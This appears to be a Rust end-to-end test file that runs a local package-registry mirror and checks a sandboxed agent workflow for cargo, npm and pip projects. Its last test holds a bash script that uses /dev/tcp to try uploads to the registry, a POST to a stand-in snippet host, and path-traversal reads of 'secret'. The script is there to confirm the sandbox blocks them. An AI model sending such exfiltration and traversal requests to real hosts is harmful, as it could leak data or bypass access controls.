//! Package registries as read-only mirrors: projects of cargo, npm and pip that need a package from a registry on this machine, from
//! `init` with the learning run to merged, without editing a file of theirs; and the same while the registry is away.

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use pointsman_adapters::process::{Run, find_program};
use pointsman_testkit::{TestDaemon, not_run};
use serde_json::json;

use super::rust_project::install_toolchain;
use super::{sandbox_works, shop};

/// Makes the same package for three tools: `fruit` 1.0.0, which says that a pear costs three.
const PACKAGES: &str = r#"
import hashlib, io, json, os, sys, tarfile, zipfile
root, origin = sys.argv[1], sys.argv[2]
def write(path, data):
    path = os.path.join(root, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(data if isinstance(data, bytes) else data.encode())
def tar(files):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue()
crate = tar({"fruit-1.0.0/Cargo.toml": '[package]\nname = "fruit"\nversion = "1.0.0"\nedition = "2021"\n',
             "fruit-1.0.0/src/lib.rs": "pub fn pear() -> u32 {\n    3\n}\n"})
write("files/fruit-1.0.0.crate", crate)
write("index/config.json", json.dumps({"dl": origin + "/files/{crate}-{version}.crate", "api": origin}))
write("index/fr/ui/fruit", json.dumps({"name": "fruit", "vers": "1.0.0", "deps": [], "features": {}, "yanked": False,
      "cksum": hashlib.sha256(crate).hexdigest()}) + "\n")
module = tar({"package/package.json": '{"name": "fruit", "version": "1.0.0", "main": "price.js"}',
              "package/price.js": "module.exports = 3\n"})
write("npm/fruit/-/fruit-1.0.0.tgz", module)
write("npm/fruit/index", json.dumps({"name": "fruit", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {"name": "fruit",
      "version": "1.0.0", "main": "price.js", "dist": {"shasum": hashlib.sha1(module).hexdigest(),
      "tarball": origin + "/npm/fruit/-/fruit-1.0.0.tgz"}}}}))
out = io.BytesIO()
with zipfile.ZipFile(out, "w") as wheel:
    wheel.writestr("fruit.py", "PEAR = 3\n")
    wheel.writestr("fruit-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: fruit\nVersion: 1.0.0\n")
    wheel.writestr("fruit-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    wheel.writestr("fruit-1.0.0.dist-info/RECORD", "fruit.py,,\n")
write("files/fruit-1.0.0-py3-none-any.whl", out.getvalue())
write("simple/fruit/index", '<html><body><a href="../../files/fruit-1.0.0-py3-none-any.whl#sha256='
      + hashlib.sha256(out.getvalue()).hexdigest() + '">fruit-1.0.0-py3-none-any.whl</a></body></html>')
"#;

/// A registry for all three on the loopback interface. It counts what it is asked for, and goes away on order.
pub(super) struct Mirror {
    pub(super) port: u16,
    is_away: Arc<AtomicBool>,
    asked: Arc<Mutex<Vec<String>>>,
    _dir: tempfile::TempDir,
}

impl Mirror {
    /// None if there is no Python, which makes its packages.
    #[track_caller]
    pub(super) fn start() -> Option<Self> {
        let python = Path::new("/usr/bin/python3");
        if !python.exists() {
            not_run("python3", "it makes the packages of the registry");
            return None;
        }
        let dir = tempfile::tempdir().unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let made = Run::new(python).args(["-c", PACKAGES]).arg(dir.path());
        let made = made.arg(format!("http://localhost:{port}")).finish().unwrap();
        assert!(made.end.success(), "{}", String::from_utf8_lossy(&made.stderr));
        let (is_away, asked) = (Arc::new(AtomicBool::new(false)), Arc::new(Mutex::new(Vec::new())));
        let (root, away, list) = (dir.path().to_owned(), Arc::clone(&is_away), Arc::clone(&asked));
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (root, away, list) = (root.clone(), Arc::clone(&away), Arc::clone(&list));
                std::thread::spawn(move || {
                    while !away.load(Ordering::SeqCst) && answer(&stream, &root, &list).is_some() {}
                });
            }
        });
        Some(Self { port, is_away, asked, _dir: dir })
    }

    pub(super) fn url(&self, path: &str) -> String {
        format!("http://localhost:{}/{path}", self.port)
    }

    fn go_away(&self, is_away: bool) {
        self.is_away.store(is_away, Ordering::SeqCst);
    }

    pub(super) fn asked(&self) -> Vec<String> {
        self.asked.lock().unwrap().clone()
    }
}

/// Answers one request.
fn answer(mut stream: &TcpStream, root: &Path, asked: &Mutex<Vec<String>>) -> Option<()> {
    let mut reader = BufReader::new(stream);
    let mut lines = reader.by_ref().lines().map_while(Result::ok);
    let first = lines.next()?;
    let mut length = 0_u64;
    for line in lines.by_ref().take_while(|line| !line.is_empty()) {
        if let Some((name, value)) = line.split_once(':')
            && name.eq_ignore_ascii_case("content-length")
        {
            length = value.trim().parse().ok()?;
        }
    }
    asked.lock().unwrap().push(first.clone());
    let _ = std::io::copy(&mut reader.take(length), &mut std::io::sink());
    let mut words = first.split(' ');
    let (method, path) = (words.next()?, words.next()?.trim_matches('/'));
    let found = fs::read(root.join(path)).or_else(|_| fs::read(root.join(path).join("index")));
    let (status, kind, body) = match found {
        Ok(body) if method != "PUT" && method != "POST" => {
            ("200 OK", if path.starts_with("simple") { "text/html" } else { "application/json" }, body)
        }
        _ => ("404 Not Found", "text/plain", b"no".to_vec()),
    };
    let head = format!("HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n", body.len());
    stream.write_all(head.as_bytes()).ok()?;
    if method != "HEAD" {
        stream.write_all(&body).ok()?;
    }
    Some(())
}

/// The agent tests before it hands in; what it does lands whether the registry is there or not.
const AGENT: &str = r#"#!/bin/bash
read -r greeting
run=$(dirname "$POINTSMAN_RESULT_FILE")
( TESTS ) > "$run/testing" 2>&1 && echo "the session is green" >> "$run/testing"
mv "$run/testing" "$run/tested"
git checkout -q -- . ; date +%s%N > said.txt
git add said.txt && git commit -qm "Say so" && git push -q origin HEAD
echo PHASE:awaiting_ci > "$PHASE_FILE"
while read -r line; do
    case $line in
        *"CI passed"*) echo PHASE:awaiting_review > "$PHASE_FILE" ;;
        *Merged*) echo PHASE:done > "$PHASE_FILE" ;;
    esac
done
"#;

/// A project that needs `fruit`.
struct Project {
    files: Vec<(&'static str, String)>,
    /// The command that the agent tests with.
    tests: &'static str,
    /// A file of the operator's home.
    home: Option<(&'static str, String)>,
    /// The entry of its registry.
    registry: String,
    /// What the registry is asked for in the end.
    file: &'static str,
    /// The directories of programs below the home.
    path: Vec<&'static str>,
}

/// The project's checkout as its authors have it, without a file of ours.
fn plant(daemon: &TestDaemon, project: &Project) -> PathBuf {
    let checkout = daemon.checkout();
    fs::remove_dir_all(&checkout).unwrap();
    for (name, text) in &project.files {
        let file = checkout.join(name);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(&file, text).unwrap();
    }
    for words in [
        &["init", "--quiet", "--initial-branch=main"][..],
        &["add", "--all"],
        &["commit", "--quiet", "--message=Plant"],
    ] {
        daemon.git_in(&checkout, words);
    }
    checkout
}

/// From `init` to merged, then once more while the registry is away.
fn lands(mirror: &Mirror, daemon: &TestDaemon, project: &Project) {
    plant(daemon, project);
    let home = daemon.path("home");
    if let Some((name, text)) = &project.home {
        fs::create_dir_all(home.join(name).parent().unwrap()).unwrap();
        fs::write(home.join(name), text).unwrap();
    }
    let agent = home.join(".local/bin/agent");
    fs::create_dir_all(agent.parent().unwrap()).unwrap();
    fs::write(&agent, AGENT.replace("TESTS", project.tests)).unwrap();
    fs::set_permissions(&agent, fs::Permissions::from_mode(0o755)).unwrap();
    let dirs = project.path.iter().chain(&[".local/bin"]).map(|dir| home.join(dir).display().to_string());
    let path: Vec<String> = dirs.chain(["/usr/local/bin:/usr/bin:/bin".to_owned()]).collect();
    let path = path.join(":");
    let set_up = daemon.run(&["init", "--yes", "--agent", &agent.to_string_lossy()]);
    assert_eq!(set_up.code, Some(0), "{}", set_up.stderr);
    daemon.start_with(&[("PATH", &path)]);
    // The registry is named by a file, so there is nothing more to allow.
    let learned = daemon.command(&["sandbox", "learn", "--json"]).env("PATH", &path).output().unwrap();
    let said = String::from_utf8_lossy(&learned.stderr).into_owned();
    let learned: serde_json::Value =
        serde_json::from_slice(&learned.stdout).unwrap_or_else(|_| panic!("{said}"));
    assert_eq!((&learned["ci"], &learned["hosts"]), (&json!("passed"), &json!([])), "{learned}");
    let shown = daemon.json(&["sandbox", "show"]);
    for list in ["registries", "ci_registries"] {
        assert_eq!(shown[list], json!([project.registry]), "{shown}");
    }

    let issue = daemon.file_issue_with("Say so", "Please.");
    let tested = tested(daemon, issue);
    daemon.wait_state(issue, "awaiting_review");
    assert!(tested.contains("the session is green"), "{tested}");
    daemon.approve(issue);
    daemon.wait_closed(issue);
    let asked = mirror.asked();
    assert!(asked.iter().any(|one| one.contains(project.file)), "{asked:#?}");
    assert!(asked.iter().all(|one| one.starts_with("GET") || one.starts_with("HEAD")), "{asked:#?}");

    mirror.go_away(true);
    let later = daemon.file_issue_with("Say so again", "Please.");
    self::tested(daemon, later);
    let waiting = daemon.wait_state(later, "escalated");
    assert!(waiting["reason"].as_str().unwrap().contains("could not be reached"), "{waiting}");
    assert_eq!(waiting["attempts"]["ci_fixes"], 0, "{waiting}");
    let asked = daemon.json(&["inbox"]);
    let one = asked.as_array().unwrap().iter().find(|one| one["issue"] == later).unwrap();
    assert_eq!(one["kind"], "host_access", "{asked}");
    mirror.go_away(false);
    daemon.json(&["inbox", "approve", &one["id"].to_string()]);
    daemon.wait_state(later, "awaiting_review");
    daemon.approve(later);
    daemon.wait_closed(later);
    assert_eq!(daemon.task(later)["attempts"], waiting["attempts"]);
}

/// What the session's own run of the tests printed, once it is over.
fn tested(daemon: &TestDaemon, issue: u64) -> String {
    let file = daemon.session_files(issue).join("run-1/tested");
    daemon.wait_for("the agent to have tested", || fs::read_to_string(&file).ok())
}

fn world(mirror: &Mirror, name: &str) -> TestDaemon {
    let machine = format!("[sandbox]\nprivate_hosts = [\"localhost:{}\"]\n", mirror.port);
    shop().named(name).machine(&machine).unregistered().build()
}

#[test]
fn e2e_sandbox_registry_a_cargo_project_lands_and_waits_for_a_registry_that_is_away() {
    if !sandbox_works() {
        return;
    }
    let Some(mirror) = Mirror::start() else { return };
    let daemon = world(&mirror, "orchard");
    if !install_toolchain(&daemon.path("home")) {
        return not_run("rustup", "no toolchain that can be put below a home");
    }
    let url = mirror.url("index/");
    let source = format!(
        "[source.crates-io]\nreplace-with = \"company\"\n[source.company]\nregistry = \"sparse+{url}\"\n[net]\nretry = 0\n"
    );
    let project = Project {
        files: vec![
            (
                "Cargo.toml",
                "[package]\nname = \"orchard\"\nversion = \"0.1.0\"\nedition = \"2021\"\n[dependencies]\nfruit = \"1\"\n"
                    .to_owned(),
            ),
            ("src/lib.rs", "#[test]\nfn pears() {\n    assert_eq!(fruit::pear(), 3);\n}\n".to_owned()),
            (".cargo/config.toml", source),
            (".gitignore", "/target\n/Cargo.lock\n".to_owned()),
        ],
        tests: "cargo test",
        home: None,
        registry: format!("cargo+{url}"),
        file: "/files/fruit-1.0.0.crate",
        path: vec![".cargo/bin"],
    };
    lands(&mirror, &daemon, &project);
}

#[test]
fn e2e_sandbox_registry_an_npm_project_lands_and_waits_for_a_registry_that_is_away() {
    if !sandbox_works() {
        return;
    }
    let usual = std::ffi::OsString::from("/usr/local/bin:/usr/bin:/bin");
    if find_program("npm", Some(&usual), Path::new("/")).is_none() {
        return not_run("npm", "it is not installed");
    }
    let Some(mirror) = Mirror::start() else { return };
    let url = mirror.url("npm/");
    let package = r#"{"name": "shop", "version": "1.0.0", "scripts": {"test": "node test.js"}, "dependencies": {"fruit": "^1.0.0"}}"#;
    // The lock file says where the package came from, as npm writes it outside.
    let lock = json!({
        "name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "shop", "version": "1.0.0", "dependencies": {"fruit": "^1.0.0"}},
            "node_modules/fruit": {"version": "1.0.0", "resolved": mirror.url("npm/fruit/-/fruit-1.0.0.tgz")},
        },
    });
    let project = Project {
        files: vec![
            ("package.json", package.to_owned()),
            ("package-lock.json", lock.to_string()),
            (".npmrc", format!("registry={url}\nfetch-retries=0\n")),
            ("test.js", "require(\"assert\").equal(require(\"fruit\"), 3)\n".to_owned()),
            (".gitignore", "/node_modules\n".to_owned()),
        ],
        tests: "npm ci && npm test && rm package-lock.json && npm install --package-lock-only && \
                ! grep 7179 package-lock.json",
        home: None,
        registry: format!("npm+{url}"),
        file: "/npm/fruit/-/fruit-1.0.0.tgz",
        path: vec![],
    };
    lands(&mirror, &world(&mirror, "shop"), &project);
}

#[test]
fn e2e_sandbox_registry_a_pip_project_lands_and_waits_for_a_registry_that_is_away() {
    if !sandbox_works() {
        return;
    }
    let python = Run::new("/usr/bin/python3").args(["-c", "import ensurepip"]).finish();
    if !python.is_ok_and(|done| done.end.success()) {
        return not_run("python3-venv", "it is not installed");
    }
    let Some(mirror) = Mirror::start() else { return };
    let url = mirror.url("simple/");
    let tests = "python3 -m venv /tmp/own && /tmp/own/bin/pip install --retries 0 -r requirements.txt && \
                 /tmp/own/bin/python test.py";
    let project = Project {
        files: vec![
            ("requirements.txt", "fruit==1.0.0\n".to_owned()),
            ("test.py", "import fruit\nassert fruit.PEAR == 3\n".to_owned()),
            ("ci.sh", format!("#!/bin/sh\n{tests}\n")),
        ],
        tests,
        // A company's index stands in the settings of the operator's own pip.
        home: Some((".config/pip/pip.conf", format!("[global]\nindex-url = {url}\n"))),
        registry: format!("pip+{url}"),
        file: "/files/fruit-1.0.0-py3-none-any.whl",
        path: vec![],
    };
    lands(&mirror, &world(&mirror, "stand"), &project);
}

/// Everything by which a branch's CI would put something into a registry or a place for snippets.
const UPLOADS: &str = r#"#!/bin/bash
base=${npm_config_registry%/}
to=${base#http://}; to=${to%%/*}
send() {
    exec 3<> "/dev/tcp/${to%:*}/${to#*:}"
    printf '%s\r\nHost: %s\r\nContent-Length: 6\r\nAuthorization: Bearer x\r\n\r\ncanary' "$1" "$to" >&3
    timeout 10 head -n 1 <&3
}
path=${base#http://"$to"}
for request in "PUT $path/fruit HTTP/1.1" "POST $path/-/npm/v1/security/audits HTTP/1.1" \
        "PUT $path/-/package/fruit/dist-tags/latest HTTP/1.1" "DELETE $path/fruit/-rev/1 HTTP/1.1" \
        "GET $path/fruit HTTP/1.1" "PUT http://localhost:PORT/npm/fruit HTTP/1.1" \
        "POST http://localhost:PORT/legacy/ HTTP/1.1" "CONNECT localhost:PORT HTTP/1.1" \
        "POST https://snippets.example.org/api HTTP/1.1" "CONNECT snippets.example.org:443 HTTP/1.1" \
        "GET $path/../../model/v1/models HTTP/1.1" "GET $path/%2e%2e/secret HTTP/1.1" \
        "GET /packages/pip/0/file/0/http/localhost:PORT/secret HTTP/1.1"; do
    answer=$(send "$request")
    echo "$request => ${answer%%$'\r'*}"
done
answer=$(printf 'GET %s/fruit HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' "$path" "$to" | { exec 3<> "/dev/tcp/${to%:*}/${to#*:}"; cat >&3; timeout 10 cat <&3; })
case $answer in *"1.0.0"*) echo "can read" ;; *) echo "cannot read: $answer" ;; esac
"#;

#[test]
fn e2e_sandbox_registry_takes_no_upload() {
    if !sandbox_works() {
        return;
    }
    let Some(mirror) = Mirror::start() else { return };
    let port = mirror.port.to_string();
    let machine = format!("[sandbox]\nprivate_hosts = [\"localhost:{port}\"]\n");
    let setup = shop().file("ci.sh", &UPLOADS.replace("PORT", &port)).machine(&machine);
    let daemon = setup.file(".npmrc", &format!("registry={}\n", mirror.url("npm/"))).start();
    let issue = daemon.file_issue("Apples", &super::clean("apples"));
    daemon.wait_closed(issue);
    let log = daemon.run(&["ci", "logs", &issue.to_string()]).stdout;
    let answers: Vec<&str> = log.lines().filter_map(|line| Some(line.split_once(" => ")?.1)).collect();
    assert_eq!(answers.len(), 13, "{log}");
    assert!(answers.iter().all(|answer| answer.starts_with("HTTP/1.1 4")), "{log}");
    assert!(log.contains("can read"), "the control: {log}");
    assert!(log.contains("package registries are read-only here"), "{log}");
    let asked = mirror.asked();
    assert!(asked.iter().all(|one| one.starts_with("GET /npm/fruit ")), "{asked:#?}");
    // Outside, the same request arrives.
    let mut outside = TcpStream::connect(("127.0.0.1", mirror.port)).unwrap();
    outside
        .write_all(b"PUT /npm/fruit HTTP/1.1\r\nContent-Length: 6\r\nConnection: close\r\n\r\ncanary")
        .unwrap();
    let _ = outside.read(&mut [0; 64]);
    assert!(mirror.asked().iter().any(|one| one.starts_with("PUT")));
}
